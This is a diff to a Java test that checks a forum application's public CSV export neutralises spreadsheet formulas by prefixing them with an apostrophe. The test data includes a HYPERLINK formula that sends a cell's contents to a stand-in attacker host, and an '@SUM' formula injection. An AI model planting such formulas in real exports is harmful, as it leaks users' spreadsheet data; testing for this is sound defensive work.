@@ -23,6 +23,8 @@ class ForumTitleFormulaInCsvTest {
     Fixtures fixtures;
     @Inject
     ForumFixtures forums;
+    @Inject
+    fr.parlonsen.cluster.Generations generations;
 
     static final String FORMULA = "=HYPERLINK(\"http://attaquant.example/?\"&A1,\"Cliquez\")";
 
@@ -42,7 +44,8 @@ class ForumTitleFormulaInCsvTest {
     void formula_cells_of_the_public_csv_start_with_an_apostrophe() {
         long id = forums.heldForum("02", Set.of("animateur-02"), Set.of("024"), ForumStatus.PUBLISHED);
         retitle(id, FORMULA, "@SUM(1+1)");
-        PublicForumPages.invalidate();
+        // a change made behind the services' back: say so, as they do (every replica's public pages follow)
+        io.quarkus.narayana.jta.QuarkusTransaction.requiringNew().run(() -> generations.bump(ForumService.PUBLIC_TOPIC));
         String csv = given().get("/api/v1/public/campaigns/2009/forums.csv?department=02").then().statusCode(200)
                 .extract().asString();
         String line = csv.lines().filter(l -> l.startsWith(id + ",")).findFirst().orElseThrow();
